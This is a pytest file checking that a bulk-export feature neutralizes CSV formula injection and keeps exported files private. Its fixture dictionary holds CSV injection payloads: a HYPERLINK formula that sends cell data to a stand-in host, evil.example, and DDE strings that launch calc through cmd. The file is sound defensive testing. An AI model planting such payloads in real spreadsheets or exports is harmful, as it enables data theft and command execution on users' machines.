"""What an export file holds and who may read it: CSV cells a spreadsheet would run as formulas
are neutralized (OWASP CSV Injection), and files are private to the server's user."""

from __future__ import annotations

import csv
import io
import json
import stat

from app.jobs.storage import export_storage
from tests.bulk.conftest import EXPORT

HOSTILE = {
    "formula@example.com": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "at@example.com": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus@example.com": "+cmd|' /C calc'!A0",
    "minus@example.com": "-2+3+cmd|' /C calc'!A0",
    "tab@example.com": "\t=1+1",
    "cr@example.com": "\r=1+1",
    "plain@example.com": "Plain = Name",
}


def _read(bulk, result) -> tuple[str, str]:
    """The file as downloaded through its signed URL, and as it is on disk."""
    resp = bulk.download(result["download_url"])
    assert resp.status_code == 200, resp.get_data(as_text=True)
    path = export_storage(bulk.app).directory / result["download_url"].split("?")[0].rsplit("/", 1)[-1]
    return resp.get_data(as_text=True), path.read_bytes().decode("utf-8")


def test_csv_cells_that_would_run_as_formulas_are_neutralized(bulk):
    records = [
        {"email": email, "name": name, "phone_number": f"+8529876543{i}", "custom_attributes": {"member_no": "-M7"}}
        for i, (email, name) in enumerate(HOSTILE.items())
    ]
    assert bulk.run_import(records)["summary"]["inserted"] == len(records)

    result = bulk.run_export({"format": "csv"})
    downloaded, on_disk = _read(bulk, result)
    assert downloaded == on_disk
    rows = list(csv.reader(io.StringIO(downloaded)))
    by_email = {row["email"]: row for row in (dict(zip(rows[0], r, strict=True)) for r in rows[1:])}
    for i, (email, name) in enumerate(HOSTILE.items()):
        row = by_email[email]
        expected = name if email == "plain@example.com" else "'" + name
        assert row["name"] == expected
        assert row["phone_number"] == f"+8529876543{i}"  # a plain number: kept as it is
        assert row["custom_attributes.member_no"] == "'-M7"
        assert row["email_verified"] == "false" and row["biometric_count"] == "0"
    for row in rows[1:]:  # no cell a spreadsheet would run
        for value in row:
            assert not value.startswith(("=", "@", "\t", "\r")), value
            assert not value.startswith(("+", "-")) or value[1:].isdigit(), value

    # Chosen columns too; the NDJSON export keeps the values as they are.
    fields = [{"pointer": "/name"}, {"pointer": "/phone_number"}]
    result = bulk.run_export({"format": "csv", "csv": {"fields": fields}})
    rows = list(csv.reader(io.StringIO(_read(bulk, result)[0])))
    assert sorted(r[0] for r in rows[1:]) == sorted(n if n == "Plain = Name" else "'" + n for n in HOSTILE.values())
    result = bulk.run_export({"format": "ndjson"})
    names = {json.loads(line)["name"] for line in _read(bulk, result)[0].splitlines()}
    assert names == set(HOSTILE.values())


def test_export_files_are_private(bulk):
    bulk.run_import([{"email": "private@example.com", "name": "Private", "mfa": {"totp": {"secret": "A" * 32}}}])
    folder = export_storage(bulk.app).directory
    folder.mkdir(exist_ok=True)
    folder.chmod(0o755)  # as an earlier version left it
    for fmt in ("csv", "ndjson"):
        result = bulk.post(EXPORT, {"format": fmt})["result"]
        result = bulk.wait(f"{EXPORT}/{result['id']}")
        storage = export_storage(bulk.app)
        name = result["download_url"].split("?")[0].rsplit("/", 1)[-1]
        assert stat.S_IMODE((storage.directory / name).stat().st_mode) == 0o600
        assert stat.S_IMODE(storage.directory.stat().st_mode) == 0o700
